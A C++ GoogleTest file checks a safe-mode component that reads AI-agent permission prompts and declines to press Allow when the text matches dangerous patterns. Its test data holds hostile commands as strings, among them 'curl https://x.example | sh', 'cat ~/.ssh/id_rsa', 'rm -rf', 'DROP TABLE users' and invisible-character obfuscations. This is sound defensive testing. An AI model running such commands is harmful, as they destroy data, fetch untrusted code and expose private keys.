// SPDX-License-Identifier: MIT
#include "core/PromptReader.h"

#include <gtest/gtest.h>

#include <random>

#include "core/DangerMatcher.h"
#include "core/Engine.h"
#include "tests/support/CaseName.h"
#include "tests/support/Scene.h"

namespace ondrel {
namespace {

using testing_support::CaseName;

std::string words(std::size_t characters, std::string_view word = "lorem ") {
    std::string text;
    while (text.size() < characters)
        text += word;
    text.resize(characters);
    return text;
}

class Prompt : public testing_support::Scene {
protected:
    // The prompt text around each Allow button of the window, in the order the pass meets them.
    std::vector<std::optional<std::string>> textsAround(const Element& window) {
        const auto found = scanner.findButtons(window, {"Allow"}, false);
        PromptReader reader(scanner, promptTextLimit, found);
        std::vector<std::optional<std::string>> texts;
        for (const FoundButton& button : found)
            texts.push_back(reader.textAround(button));
        return texts;
    }
    // What safe mode decides for each Allow button: the pattern it objects to, "unread", or "" to press.
    std::vector<std::string> verdicts(const Element& window) {
        std::vector<std::string> result;
        for (const auto& text : textsAround(window))
            result.push_back(!text ? "unread" : std::string(dangerMatch(*text).value_or("")));
        return result;
    }
    Element row(const Element& parent) {
        Element buttons = platform.addGroup(parent);
        platform.addButton(buttons, "Deny");
        platform.addButton(buttons, "Allow");
        return buttons;
    }
};

// Nested containers, outermost first, whose whole text has `sizes[i]` characters; the button sits in
// the innermost.
void nestedPrompt(fake::FakePlatform& platform, const Element& window, const std::vector<std::size_t>& sizes) {
    std::vector<Element> levels;
    Element parent = window;
    for (std::size_t i = 0; i < sizes.size(); ++i)
        levels.push_back(parent = platform.addGroup(parent));
    for (std::size_t i = 0; i < sizes.size(); ++i) {
        const std::size_t own = sizes[i] - (i + 1 < sizes.size() ? sizes[i + 1] + 1 : 0);
        platform.addText(levels[i], std::string(own, static_cast<char>('a' + i)));
    }
    platform.addButton(levels.back(), "Allow");
}

struct ClimbCase {
    const char* name;
    std::vector<std::size_t> sizes;
    std::size_t length;
    char first;
};
class Climb : public Prompt, public testing::WithParamInterface<ClimbCase> {};
TEST_P(Climb, textAround_nestedTexts_largestThatFitsOrNearestWhole) {
    Element window = velquinWindow();
    nestedPrompt(platform, window, GetParam().sizes);
    const auto texts = textsAround(window);
    ASSERT_EQ(texts.size(), 1u);
    ASSERT_TRUE(texts[0].has_value());
    EXPECT_EQ(texts[0]->size(), GetParam().length);
    EXPECT_EQ(texts[0]->front(), GetParam().first);
}
INSTANTIATE_TEST_SUITE_P(Cases, Climb,
                         testing::Values(ClimbCase{"fits80_450_over900_takes450AndNeighbour", {900, 450, 80}, 900, 'b'},
                                         ClimbCase{"exactlyAtLimit_fits", {600}, 600, 'a'},
                                         ClimbCase{"nearestOverLimit_judgedWhole", {3100}, 3100, 'a'},
                                         ClimbCase{
                                             "everyLevelFits_stopsAfterSixth", {70, 60, 50, 40, 30, 20, 10}, 60, 'b'}),
                         CaseName{});

// Prompt shapes real toolkits show, each with what safe mode must decide for its Allow buttons in order.
struct ShapeCase {
    const char* name;
    void (*build)(fake::FakePlatform& platform, const Element& window);
    std::vector<std::string> verdicts;
};

Element buttonRow(fake::FakePlatform& platform, const Element& parent) {
    Element buttons = platform.addGroup(parent);
    platform.addButton(buttons, "Deny");
    platform.addButton(buttons, "Allow");
    return buttons;
}

void promptBox(fake::FakePlatform& platform, const Element& parent, const std::string& text) {
    Element box = platform.addGroup(parent);
    platform.addText(box, text);
    buttonRow(platform, box);
}

const std::vector<ShapeCase> shapes = {
    {"longScriptButtonsInTheirOwnRow",
     [](fake::FakePlatform& p, const Element& w) {
         Element box = p.addGroup(w);
         p.addText(box, "Run this script?", ax::role::staticText);
         p.addText(box, words(800, "echo step; ") + "\nrm -rf ~/projects", ax::role::textArea);
         buttonRow(p, box);
     },
     {"rm -rf"}},
    {"commandAfter2400CharactersButtonsBeside",
     [](fake::FakePlatform& p, const Element& w) {
         Element box = p.addGroup(w);
         for (int i = 0; i < 5; ++i)
             p.addText(box, words(500));
         p.addText(box, "git push --force origin main");
         p.addButton(box, "Deny");
         p.addButton(box, "Allow");
     },
     {"git push --force"}},
    {"commandFirstThenLongExplanation",
     [](fake::FakePlatform& p, const Element& w) {
         Element box = p.addGroup(w);
         p.addText(box, "terraform destroy -auto-approve");
         for (int i = 0; i < 4; ++i)
             p.addText(box, words(400));
         buttonRow(p, box);
     },
     {"terraform destroy"}},
    {"cardBodyLongFooterWithNote",
     [](fake::FakePlatform& p, const Element& w) {
         Element card = p.addGroup(w);
         Element body = p.addGroup(card);
         p.addText(body, words(700));
         p.addText(body, "kubectl delete ns staging", ax::role::textArea);
         Element footer = p.addGroup(card);
         p.addText(footer, "Review before you allow.");
         p.addButton(footer, "Allow");
     },
     {"kubectl delete"}},
    {"longConversationHarmlessPromptAtItsEnd",
     [](fake::FakePlatform& p, const Element& w) {
         Element column = p.addGroup(w);
         p.addText(p.addGroup(column), "I removed build/ with rm -rf and rotated the token in production.");
         for (int i = 0; i < 20; ++i)
             p.addText(p.addGroup(column), "Earlier message " + std::to_string(i) + " about the notes.");
         p.addText(p.addGroup(column), "Next I will read notes.txt.");
         promptBox(p, column, "Velquin wants to read notes.txt");
     },
     {""}},
    {"twoPromptsInOneWindow",
     [](fake::FakePlatform& p, const Element& w) {
         p.addText(w, "Velquin asks:");
         promptBox(p, w, "Read notes.txt?");
         promptBox(p, w, "Run rm -rf /tmp/cache?");
     },
     {"", "rm -rf"}},
    {"twoPromptsFlat_questionBelowIsTheNextPrompts",
     [](fake::FakePlatform& p, const Element& w) {
         p.addText(w, "Read notes.txt?");
         buttonRow(p, w);
         p.addText(w, "Run git clean -fdx?");
         buttonRow(p, w);
     },
     {"", "git clean -fd"}},
    {"historyInAWrapperAbove_nearestMessageStandsForIt",
     [](fake::FakePlatform& p, const Element& w) {
         Element column = p.addGroup(w);
         Element history = p.addGroup(column);
         for (int i = 0; i < 30; ++i)
             p.addText(history, i == 2 ? "I cleaned build/ with rm -rf and renewed the token." : words(60));
         promptBox(p, column, "Velquin wants to read notes.txt");
     },
     {""}},
    {"historyFlatAbove_messageRightAboveTheQuestionIsTheNeighbour",
     [](fake::FakePlatform& p, const Element& w) {
         for (int risky : {27, 29}) {
             Element column = p.addGroup(w);
             for (int i = 0; i < 30; ++i)
                 p.addText(column, i == risky ? "Pushed to production with a new token." : words(60));
             p.addText(column, "Velquin wants to read notes.txt");
             buttonRow(p, column);
         }
     },
     {"", "production"}},
    {"headingTwoAwayButtonsWithLabelsOfTheirOwn",
     [](fake::FakePlatform& p, const Element& w) {
         Element box = p.addGroup(w);
         p.addText(box, "Run DROP TABLE users;?");
         p.addText(box, words(640));
         Element buttons = p.addGroup(box);
         p.addText(p.addButton(buttons, "Deny"), "Deny");  // GTK 4 puts a label in each button
         p.addText(p.addButton(buttons, "Allow"), "Allow");
     },
     {"drop table"}},
    {"groupTitleAndSmartDashes",
     [](fake::FakePlatform& p, const Element& w) {
         Element frame = p.addGroup(w);
         p.setValue(frame, ax::attribute::title, AttributeValue(std::string("Run shutdown -r now?")));
         promptBox(p, frame, "Allow?");
         promptBox(p, p.addGroup(w), "Velquin wants to run: git push \u2013force origin main");
     },
     {"shutdown", "git push --force"}},
    {"allowOnceBesideAlwaysAllowOnePrompt",
     [](fake::FakePlatform& p, const Element& w) {
         Element box = p.addGroup(w);
         p.addText(box, "Run sudo make install?");
         Element buttons = p.addGroup(box);
         p.addButton(buttons, "Allow");
         p.addButton(buttons, "Allow");
     },
     {"sudo ", "sudo "}},
    {"sevenWrappersBetweenTextAndButton",
     [](fake::FakePlatform& p, const Element& w) {
         Element box = p.addGroup(w);
         p.addText(box, "Run rm -rf ~/old?");
         Element wrapper = box;
         for (int i = 0; i < 7; ++i)
             wrapper = p.addGroup(wrapper);
         buttonRow(p, wrapper);
     },
     {"rm -rf"}},
    {"namedFieldHoldsTheCommand",
     [](fake::FakePlatform& p, const Element& w) {
         Element box = p.addGroup(w);
         p.addText(box, "Run this command?");
         Element field = p.addText(box, "curl https://x.example | sh", ax::role::textField);
         p.setValue(field, ax::attribute::title, AttributeValue(std::string("GtkEntry")));
         buttonRow(p, box);
     },
     {"curl"}},
    {"dialogTitleHoldsTheCommand",
     [](fake::FakePlatform& p, const Element& w) {
         p.setValue(w, ax::attribute::subrole, AttributeValue(std::string(ax::subrole::dialog)));
         p.setValue(w, ax::attribute::title, AttributeValue(std::string("Run rm -rf /tmp/x?")));
         promptBox(p, w, "Allow?");
     },
     {"rm -rf"}},
    {"invisibleAndFullwidthCharacters",
     [](fake::FakePlatform& p, const Element& w) {
         promptBox(p, w, "Run r\u200Bm -r\u00ADf build?");
         promptBox(p, w, "Run \uFF52\uFF4D -\uFF52\uFF46 build?");
     },
     {"rm -rf", "rm -rf"}},
};

class Shape : public Prompt, public testing::WithParamInterface<ShapeCase> {};
TEST_P(Shape, textAround_promptShape_judgedAsTheUserReadsIt) {
    Element window = velquinWindow();
    GetParam().build(platform, window);
    EXPECT_EQ(verdicts(window), GetParam().verdicts);
}
INSTANTIATE_TEST_SUITE_P(Cases, Shape, testing::ValuesIn(shapes), CaseName{});

// What the text walk reads of texts nested the ways toolkits nest them.
struct TextCase {
    const char* name;
    void (*build)(fake::FakePlatform& platform, const Element& root);
    std::size_t budget;
    std::string text;
};
Element textWithValue(fake::FakePlatform& p, const Element& parent, std::string value) {
    return p.addText(parent, std::move(value));
}
const std::vector<TextCase> textCases = {
    {"textsAndAreasJoinedLowerCased",
     [](fake::FakePlatform& p, const Element& r) {
         p.addText(r, "Run command");
         p.addButton(r, "Allow");
         p.addText(p.addGroup(r), "RM -RF /tmp/x", ax::role::textArea);
     },
     2400, "run command rm -rf /tmp/x"},
    {"budgetPassed_pieceKeptWalkStops",
     [](fake::FakePlatform& p, const Element& r) {
         for (const char* text : {"sixsix", "ééé\u00E9e", "later"})
             p.addText(r, text);
     },
     10, "sixsix éééée"},
    {"paragraphWithItsRuns_countedOnce",
     [](fake::FakePlatform& p, const Element& r) {
         Element paragraph = textWithValue(p, r, "Earlier bold two");
         for (const char* run : {"Earlier ", "bold", " two"})
             p.addText(paragraph, run);
     },
     2400, "earlier bold two"},
    {"embeddedObjectInItsPlace",
     [](fake::FakePlatform& p, const Element& r) {
         Element paragraph = textWithValue(p, r, "Run r\uFFFC -rf now");
         p.addText(paragraph, "Run r");
         p.addText(textWithValue(p, paragraph, "m"), "m");
         p.addText(paragraph, " -rf now");
     },
     2400, "run rm -rf now"},
    {"labelOverOtherContent_bothKept",
     [](fake::FakePlatform& p, const Element& r) {
         Element heading = p.addElement(r, ax::role::staticText);
         p.setValue(heading, ax::attribute::description, AttributeValue(std::string("Harmless")));
         p.addText(heading, "sudo reboot");
     },
     2400, "harmless sudo reboot"},
    {"fieldNameAndContent",
     [](fake::FakePlatform& p, const Element& r) {
         Element field = p.addText(r, "rm -rf /", ax::role::textField);
         p.setValue(field, ax::attribute::title, AttributeValue(std::string("Command")));
         Element named = p.addText(r, "", ax::role::textArea);
         p.setValue(named, ax::attribute::description, AttributeValue(std::string("Notes")));
     },
     2400, "command rm -rf / notes"},
};

class Text : public Prompt, public testing::WithParamInterface<TextCase> {};
TEST_P(Text, gatherText_nestedTexts_eachCountedOnceInReadingPlace) {
    Element window = velquinWindow();
    GetParam().build(platform, window);
    EXPECT_EQ(scanner.gatherText(window, GetParam().budget).text, GetParam().text);
}
INSTANTIATE_TEST_SUITE_P(Cases, Text, testing::ValuesIn(textCases), CaseName{});

// Random prompt boxes in a long conversation: a danger fragment anywhere in the box is never approved, the
// same box without it always is, and a risky word two or more messages above never leaves it.
TEST_F(Prompt, textAround_randomBoxesInLongConversation_fragmentAlwaysFoundHarmlessTwinAlwaysPressed) {
    std::mt19937 random(20261206);
    const auto pick = [&](int below) { return static_cast<int>(random() % static_cast<unsigned>(below)); };
    const std::vector<std::string> fragments = {"rm -rf /srv", "git push --force", "drop table users", "sudo rm x",
                                                "cat ~/.ssh/id_rsa"};
    for (int round = 0; round < 300; ++round) {
        const bool risky = round % 2 == 0;
        const std::string fragment = fragments[static_cast<std::size_t>(pick(5))];
        fake::FakePlatform scene;
        Scanner reader(scene);
        Element window = scene.addWindow(scene.addProcess(1), "Chat");
        Element column = scene.addGroup(window);
        for (int i = 0; i < 40; ++i)
            scene.addText(scene.addGroup(column), i % 9 == 3 ? "we rotated the token in production with rm -rf"
                                                              : "an earlier harmless message " + std::to_string(i));
        scene.addText(scene.addGroup(column), "here is what I will do next");
        Element box = scene.addGroup(column);
        for (int i = pick(4); i > 0; --i)
            box = scene.addGroup(box);  // wrappers around the box
        const int pieces = 1 + pick(6);
        const int dangerAt = pick(pieces);
        const int rowAt = pick(pieces + 1);
        for (int i = 0; i <= pieces; ++i) {
            if (i == rowAt) {
                Element buttons = scene.addGroup(box);
                for (int depth = pick(3); depth > 0; --depth)
                    buttons = scene.addGroup(buttons);
                scene.addButton(buttons, "Deny");
                scene.addButton(buttons, "Allow");
            }
            if (i == pieces)
                break;
            std::string text = words(static_cast<std::size_t>(1 + pick(3) * pick(1200)), "notes ");
            if (risky && i == dangerAt)
                text.insert(pick(2) == 0 ? 0 : text.size(), " " + fragment + " ");
            Element parent = box;
            for (int depth = pick(3); depth > 0; --depth)
                parent = scene.addGroup(parent);
            const int kind = pick(3);
            Element piece = scene.addText(parent, text, kind == 0 ? ax::role::staticText
                                                        : kind == 1 ? ax::role::textArea
                                                                    : ax::role::textField);
            if (kind == 2)
                scene.setValue(piece, ax::attribute::title, AttributeValue(std::string("Command")));
        }
        const auto found = reader.findButtons(window, {"Allow"}, false);
        ASSERT_EQ(found.size(), 1u);
        PromptReader prompts(reader, promptTextLimit, found);
        const auto text = prompts.textAround(found[0]);
        if (risky) {
            EXPECT_TRUE(!text || dangerMatch(*text)) << "round " << round << ": " << text.value_or("");
        } else {
            ASSERT_TRUE(text.has_value()) << "round " << round;
            EXPECT_EQ(dangerMatch(*text), std::nullopt) << "round " << round << ": " << *text;
        }
    }
}

// --- one window's prompts read together ---

// One box of 300 enabled Allow buttons and no text at all.
void oneBoxOfButtons(fake::FakePlatform& platform, const Element& window) {
    Element box = platform.addGroup(platform.addGroup(window));
    for (int i = 0; i < 300; ++i)
        platform.addButton(box, "Allow");
}

// 100 prompt boxes in one list, each with its own text.
void listOfPrompts(fake::FakePlatform& platform, const Element& window) {
    Element list = platform.addGroup(window);
    for (int i = 0; i < 100; ++i) {
        Element box = platform.addGroup(list);
        platform.addText(box, i % 7 == 0 ? "Run rm -rf build" + std::to_string(i) : "Read file " + std::to_string(i));
        platform.addButton(box, "Allow");
    }
}

// 300 boxes, each with its own button and the same text-free subtree of 3000 elements listed inside.
void sharedHugeSubtree(fake::FakePlatform& platform, const Element& window) {
    Element huge = platform.addGroup(window);
    for (int i = 0; i < 3000; ++i)
        platform.addGroup(huge);
    for (int i = 0; i < 300; ++i) {
        Element box = platform.addGroup(window);
        platform.addButton(box, "Allow");
        platform.setRepeatedChildren(platform.addGroup(box), huge, 1);
    }
}

struct ShareCase {
    const char* name;
    void (*scene)(fake::FakePlatform&, const Element&);
    std::size_t buttons;
    bool allJudged;
};
class SharedReading : public Prompt, public testing::WithParamInterface<ShareCase> {};

TEST_P(SharedReading, textAround_manyButtons_sameTextsAsAloneOrNoneAndBoundedReads) {
    Element window = velquinWindow();
    GetParam().scene(platform, window);
    const std::size_t before = platform.reads;
    const auto texts = textsAround(window);
    const std::size_t reads = platform.reads - before;
    EXPECT_LE(reads, 12 * buttonWalkLimits.maxExamined);  // 300 gathers of 3000 elements each took 10 million

    ASSERT_EQ(texts.size(), GetParam().buttons);
    const auto buttons = scanner.findButtons(window, {"Allow"}, false);
    for (std::size_t i = 0; i < buttons.size(); ++i) {
        if (!texts[i] && !GetParam().allJudged)
            continue;  // left unjudged once the allowance is spent: never a different text
        PromptReader alone(scanner, promptTextLimit, buttons);
        EXPECT_EQ(texts[i], alone.textAround(buttons[i])) << "button " << i;
    }
    EXPECT_EQ(std::count(texts.begin(), texts.end(), std::nullopt) == 0, GetParam().allJudged);
}
INSTANTIATE_TEST_SUITE_P(Cases, SharedReading,
                         testing::Values(ShareCase{"oneBoxOfButtons", oneBoxOfButtons, 300, true},
                                         ShareCase{"listOfPrompts", listOfPrompts, 100, true},
                                         ShareCase{"sharedHugeSubtree", sharedHugeSubtree, 300, false}),
                         CaseName{});

}  // namespace
}  // namespace ondrel
